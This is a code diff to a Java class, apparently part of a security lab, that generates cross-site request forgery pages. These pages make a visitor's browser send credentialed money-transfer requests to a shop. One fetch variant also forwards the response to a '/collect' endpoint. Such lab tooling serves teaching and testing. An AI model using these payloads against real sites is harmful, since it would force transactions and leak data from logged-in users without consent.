@@ -10,7 +10,7 @@ import dev.authscope.server.json.JsonText;
 
 /**
  * Pages that make a visitor's browser send something to the shop. What they send, parameters say: {@code do} is one of form,
- * image, link, fetch, json, xhr; {@code url} is where to; {@code to} and {@code amount} are the transfer; {@code wait} is
+ * image, link, fetch, json, read; {@code url} is where to; {@code to} and {@code amount} are the transfer; {@code wait} is
  * how many milliseconds of lab time pass before the form submits itself; {@code manual} leaves the form to be submitted.
  */
 public final class AttackPages {
@@ -33,7 +33,8 @@ public final class AttackPages {
             case "image" -> "<img src=\"" + escape(url + "?to=" + to + "&amount=" + amount) + "\" alt=\"\">\n";
             case "link" -> "<p><a href=\"" + escape(url + "?to=" + to + "&amount=" + amount) + "\">Claim it</a></p>\n";
             case "fetch" -> script("fetch(" + text(url) + ", {method: 'POST', credentials: 'include', body: "
-                    + "new URLSearchParams({to: " + text(to) + ", amount: " + text(amount) + "})})"
+                    + "'to=' + encodeURIComponent(" + text(to) + ") + '&amount=' + encodeURIComponent(" + text(amount)
+                    + "), headers: {'Content-Type': 'application/x-www-form-urlencoded'}})"
                     + ".then(r => r.text()).then(t => fetch('/collect', {method: 'POST', body: t}))"
                     + ".catch(e => console.log(String(e)));");
             case "json" -> script("fetch(" + text(url) + ", {method: 'POST', credentials: 'include', "
